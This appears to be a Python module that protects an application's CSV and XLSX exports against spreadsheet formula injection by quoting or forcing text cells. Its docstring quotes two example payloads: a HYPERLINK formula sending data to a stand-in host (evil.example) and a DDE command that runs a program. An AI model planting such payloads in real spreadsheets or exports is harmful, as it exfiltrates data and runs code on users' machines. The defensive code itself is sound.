"""Text that we write into spreadsheets stays text, never a live formula.

Excel, LibreOffice and Google Sheets take a value that starts with `=`, `+`, `-`, `@`, a tab
or a carriage return for a formula ("CSV injection", OWASP): an applicant named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would send the sheet away, and
`=cmd|' /C calc'!A0` may run a program on the clerk's computer. So:

- in the CSVs we write, such a text value gets one leading apostrophe, which spreadsheets read
  as "this is text" (`csv_text`); numbers (int, Decimal) are written as they are. Our CSV
  readers (cchc.csvfiles) take that one apostrophe off again (`csv_read_text`), so export then
  import gives the same data;
- in the XLSX workbooks we write, every str goes in as a string cell (openpyxl would make any
  str starting with `=` a formula): cells are filled through `put` / `set_value`, and the
  formulas we mean (totals, rates) are written with `formula=True`. Characters that XLSX
  cannot hold (control characters) are dropped instead of failing the whole workbook.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _looks_like_formula(value: str) -> bool:
    # Apostrophes already in front count too: "'=x" is written "''=x" so that reading it back
    # (one apostrophe off) gives "'=x" again.
    return value.lstrip(QUOTE).startswith(FORMULA_STARTS)


def csv_text(value: str) -> str:
    """A text value as it goes into a CSV: with a leading apostrophe when a spreadsheet would
    take it for a formula."""
    return QUOTE + value if _looks_like_formula(value) else value


def csv_read_text(value: str) -> str:
    """A text value read from a CSV, with the apostrophe that `csv_text` added taken off."""
    if value.startswith(QUOTE) and _looks_like_formula(value):
        return value[1:]
    return value


class _Echo:
    """A write-only stream that hands back what is written (for streaming CSV)."""

    def write(self, value: str) -> str:
        return value


class CsvWriter:
    """csv.writer (lines end with LF) whose str values are neutralised with `csv_text`; other
    values (int, Decimal, None) are written as csv.writer writes them. Without a stream,
    writerow returns the line (for streaming responses)."""

    def __init__(self, stream=None) -> None:
        self._writer = csv.writer(stream if stream is not None else _Echo(), lineterminator="\n")

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_text(v) if isinstance(v, str) else v for v in row])


def set_value(cell: Cell, value: Any, *, formula: bool = False) -> Cell:
    """Put `value` in an openpyxl cell: a str is a string cell (never a formula) unless
    `formula`, which is for the formulas we write on purpose; numbers and dates stay what they
    are."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.value = value
    if isinstance(value, str) and not formula:
        cell.data_type = "s"
    return cell


def put(ws: Worksheet, row: int, column: int, value: Any, *, formula: bool = False) -> Cell:
    """ws.cell(row, column, value) through `set_value`: the cell, filled safely."""
    return set_value(ws.cell(row, column), value, formula=formula)
